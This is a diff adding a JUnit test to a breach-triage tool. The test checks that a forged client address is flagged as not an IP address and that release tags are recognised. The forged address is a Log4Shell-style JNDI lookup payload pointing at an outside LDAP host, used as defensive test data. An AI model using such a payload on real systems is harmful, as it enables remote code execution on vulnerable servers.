@@ -172,6 +172,21 @@ class TokenInventoryTest {
     }
 
     @Test
+    void triageNamesAForgedClientAddressAndMovesOnlyReleaseTagsIntoSuspicion() {
+        Event known = event("2026-11-16T08:00:00Z", "image.pull", "bob", "tok-a");
+        known.sourceIp = "80.130.44.17";
+        Event forged = event("2026-11-18T08:00:00Z", "image.pull", "bob", "tok-a");
+        forged.sourceAddress = "${jndi:ldap://45.77.28.9/a}";
+        TriageReport report = BreachTriage.run(List.of(known, forged), at("2026-11-17T00:00:00Z"));
+        assertThat(report.findings(TriageSection.NEW_SOURCE)).singleElement()
+                .satisfies(f -> assertThat(f.why()).contains("client address '${jndi:ldap://45.77.28.9/a}' is not an IP address"));
+        assertThat(BreachTriage.isRelease("2.2.5")).isTrue();
+        assertThat(BreachTriage.isRelease("v1.4.0-rc.1")).isTrue();
+        assertThat(BreachTriage.isRelease("latest")).isFalse();
+        assertThat(BreachTriage.isRelease("main-badc0de")).isFalse();
+    }
+
+    @Test
     void aCappedSetKeepsTheFirstValuesAndCountsThemAll() {
         CappedSet set = new CappedSet(2);
         for (String v : new String[] {"a", "b", "c", "c", "d", "a"}) set.add(v);
